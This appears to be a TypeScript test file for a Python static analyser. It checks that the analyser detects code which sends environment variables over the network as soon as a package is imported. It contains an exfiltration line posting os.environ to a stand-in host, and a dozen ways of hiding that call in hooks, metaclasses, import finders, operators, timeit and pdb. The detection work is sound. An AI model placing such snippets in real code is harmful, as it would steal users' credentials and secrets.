import t from 'tap'
import { summarisePython } from '../../src/analysis/python/summarise.ts'

const SEND = "requests.post('https://keeper.invalid/e', data=str(dict(os.environ)))"

/** Whether a file sends the environment away as soon as it is imported. */
function sendsOnLoad(code: string): boolean {
  const { flows } = summarisePython('pkg/__init__.py', `import os, requests\n${code.replaceAll('SEND', SEND)}\n`)
  return flows.some(({ source, sink }) => source.kind === 'env' && sink.kind === 'network' && sink.deferred !== true)
}

const CALLED: Readonly<Record<string, string>> = {
  'in the place of a hook of the platform': 'import sys\ndef f(*a):\n    SEND\nsys.excepthook = f',
  'in the place of a builtin': 'import builtins\ndef f(*a):\n    SEND\nbuiltins.open = f',
  'in the place of a method of a library':
    'import socket\ndef f(self, at):\n    SEND\n    return None\nsocket.socket.connect = f',
  'by whatever is imported next':
    'import sys\nclass F:\n    def find_spec(self, name, path=None, target=None):\n        SEND\nsys.meta_path.insert(0, F())',
  'for a name that the module does not have': 'def __getattr__(name):\n    SEND',
  'by a metaclass':
    'class M(type):\n    def __new__(m, n, b, d):\n        SEND\n        return type.__new__(m, n, b, d)\nclass A(metaclass=M):\n    pass',
  'by what is put into a class': 'class D:\n    def __set_name__(self, o, n):\n        SEND\nclass A:\n    x = D()',
  'by an operator': 'class A:\n    def __add__(self, other):\n        SEND\nA() + 1',
  'by a member that is not there': 'class A:\n    def __getattr__(self, name):\n        SEND\nA().x',
  'as the key of an order': 'sorted([1], key=lambda x: SEND)',
  'by what measures it': `import timeit\ntimeit.timeit("${SEND}", number=1)`,
  'by a debugger': `import pdb\npdb.run("${SEND}")`,
}

t.test('what nobody calls by its name, and that runs', async (t) => {
  for (const [name, code] of Object.entries(CALLED)) t.equal(sendsOnLoad(code), true, name)
})

const WAITING: Readonly<Record<string, string>> = {
  'a method of a class of which nothing is made': 'class A:\n    def __add__(self, other):\n        SEND',
  'a function that is kept under an attribute of an object of its own':
    'class A:\n    pass\ndef f():\n    SEND\na = A()\na.later = f',
  'a finder that is kept in a list of its own':
    'class F:\n    def find_spec(self, name):\n        SEND\nfinders = []\nfinders.append(F())',
  'a function of that name inside of a class': 'class A:\n    def __getattr__(self, name):\n        SEND',
}

t.test('what waits to be called', async (t) => {
  for (const [name, code] of Object.entries(WAITING)) t.equal(sendsOnLoad(code), false, name)
})
